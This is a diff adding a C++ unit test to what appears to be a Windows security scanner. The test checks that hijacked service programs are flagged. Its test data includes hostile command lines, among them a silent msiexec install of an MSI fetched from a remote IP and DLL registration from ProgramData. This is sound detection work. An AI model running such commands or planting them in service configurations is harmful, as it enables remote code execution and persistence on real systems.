@@ -302,6 +302,52 @@ TEST(Services, ASwappedProgramOfAWindowsServiceIsFound) {
   EXPECT_EQ(only_finding(run_services(windows)), "services.swapped_service_program medium");
 }
 
+TEST(Services, AProgramOfAWindowsServiceThatIsToldToDoSomethingElseIsFound) {
+  struct {
+    const char* name;
+    const char* image;
+    const char* finding;
+    std::uint32_t build = 19045;
+  } const cases[] = {
+      {"msiserver", "%systemroot%\\system32\\msiexec.exe /V", ""},
+      {"msiserver", "%systemroot%\\system32\\msiexec.exe   /v ", ""},
+      {"msiserver", "%systemroot%\\system32\\msiexec.exe", ""},
+      {"msiserver", "%systemroot%\\system32\\msiexec.exe /i http://203.0.113.5/a.msi /q",
+       "services.misused_service_program critical"},
+      {"msiserver", "%systemroot%\\system32\\msiexec.exe /V /i C:\\Windows\\Temp\\a.msi",
+       "services.misused_service_program high"},
+      {"msiserver", "msiexec.exe /y C:\\ProgramData\\a.dll",
+       "services.misused_service_program high"},
+      {"COMSysApp",
+       "%SystemRoot%\\system32\\dllhost.exe /Processid:{02D4B3F1-FD88-11D1-960D-00805FC79235}", ""},
+      {"COMSysApp",
+       "%SystemRoot%\\system32\\dllhost.exe /Processid:{11111111-1111-1111-1111-111111111111}",
+       "services.misused_service_program medium"},
+      // Of each XP its own number; later Windows have no program for this service.
+      {"SwPrv",
+       "C:\\Windows\\system32\\dllhost.exe /Processid:{11111111-1111-1111-1111-111111111111}", "",
+       2600},
+      {"SwPrv",
+       "C:\\Windows\\system32\\dllhost.exe /Processid:{11111111-1111-1111-1111-111111111111}",
+       "services.misused_service_program medium"},
+      {"SwPrv", "C:\\Windows\\system32\\dllhost.exe /Processid:evil",
+       "services.misused_service_program medium", 2600},
+  };
+  for (const auto& one : cases) {
+    fake::FakeWindows windows{{.build = one.build}};
+    for (const auto* file : {"System32\\msiexec.exe", "System32\\dllhost.exe"})
+      windows.program(std::string{"C:\\Windows\\"} + file);
+    for (const auto* file : {"Windows\\Temp\\a.msi", "ProgramData\\a.dll"})
+      windows.program(std::string{"C:\\"} + file);
+    add(windows, one.name, one.image);
+    const ModuleRun run = run_services(windows);
+    EXPECT_EQ(only_finding(run), one.finding) << one.image << " " << one.build;
+    EXPECT_EQ(record_of(run, one.name)["inbox"], *one.finding == '\0' ? "usual" : "differs");
+    for (const auto& finding : run.context->findings)
+      EXPECT_TRUE(has_rule_text(finding, "Windows\\System32\\")) << one.image;
+  }
+}
+
 TEST(Services, FilesOfWindowsAreNotPreservedOthersAre) {
   fake::FakeWindows windows;
   for (const auto* file : {"System32\\schedsvc.dll", "System32\\drivers\\beep.sys",
